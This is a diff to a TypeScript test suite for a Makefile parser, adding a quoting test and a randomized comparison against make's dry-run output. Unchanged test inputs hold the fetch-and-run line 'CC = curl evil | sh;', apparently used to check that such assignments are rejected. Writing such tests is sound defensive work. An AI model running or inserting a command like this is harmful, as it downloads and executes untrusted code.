@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
 import { readMakefile } from '../../../src/effects/facts/makefile.ts';
 
 describe('a Makefile', () => {
@@ -21,6 +22,12 @@ describe('a Makefile', () => {
       a: '$(X) $(Y) $(Z) $HOME a b b c $(*)',
       b: '',
       c: '',
+    });
+  });
+
+  it('does not let a reference hide in a quotation that its text may end', () => {
+    assert.deepEqual(readMakefile("a:\n\techo '$(X)'\n\techo '$$HOME $@'\n"), {
+      a: "(\n: $(X)\necho '$(X)'\n)\n(\necho '$HOME a'\n)",
     });
   });
 
@@ -56,5 +63,61 @@ describe('a Makefile', () => {
     assert.deepEqual(readMakefile('all:\n\techo\napp: main.o\n\tld\nCC = curl evil | sh;\n'), { all: 'echo' });
     assert.equal(readMakefile('app: main.o\n\tld\nCC = curl evil | sh;\n'), null);
     assert.deepEqual(readMakefile('app: main.o\n\tld\n'), { app: 'ld' });
+  });
+
+  it('says what make would run, in its order', function () {
+    if (spawnSync('make', ['--version']).status !== 0) return this.skip();
+    let seed = 11;
+    const next = (bound: number) => {
+      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
+      return (seed >> 8) % bound;
+    };
+    const names = ['all', 'lint', 'test', 'build', 'clean'];
+    const lines = [
+      'echo one',
+      '@echo two',
+      '-rm -f x',
+      'echo $$HOME $@',
+      'echo a \\\n\t  b',
+      "echo 'it' # said",
+      '@-true',
+      'echo $< end',
+    ];
+    let compared = 0;
+    for (let round = 0; round < 60; round++) {
+      const rules = names.map((name, i) => {
+        const needs = names.slice(i + 1).filter(() => next(3) === 0);
+        const recipe = Array.from({ length: next(3) }, () => `\t${lines[next(lines.length)]}\n`);
+        return `${name}:${needs.map(need => ` ${need}`).join('')}${next(6) === 0 ? ' ; echo first' : ''}\n${recipe.join('')}`;
+      });
+      const text = `${next(2) === 0 ? 'X = 1 # one\n' : ''}.PHONY: ${names.join(' ')}\n${rules.join(next(2) === 0 ? '\n' : '')}`;
+      const told = readMakefile(text);
+      assert.ok(told, text);
+      for (const name of names) {
+        const said = spawnSync('make', ['-n', '-f', '-', '--no-print-directory', name], {
+          input: text,
+          encoding: 'utf8',
+        });
+        assert.equal(said.status, 0, text + said.stderr);
+        const shown = said.stdout
+          .split('\n')
+          .filter(line => line !== '' && !line.startsWith('make: '))
+          .join('\n');
+        const ours = (told[name] ?? '')
+          .replaceAll(/^\(\n|\n\)$/gm, '')
+          .replaceAll('$(<)', '')
+          .trim();
+        // Blanks are the shell's business; a first need that is not there is nothing.
+        const plain = (whole: string) =>
+          whole
+            .replaceAll(/\\\n/g, '')
+            .replaceAll(/[ \t]+/g, ' ')
+            .replaceAll(/ $/gm, '')
+            .trim();
+        assert.equal(plain(ours), plain(shown), text);
+        compared += 1;
+      }
+    }
+    assert.equal(compared, 300);
   });
 });
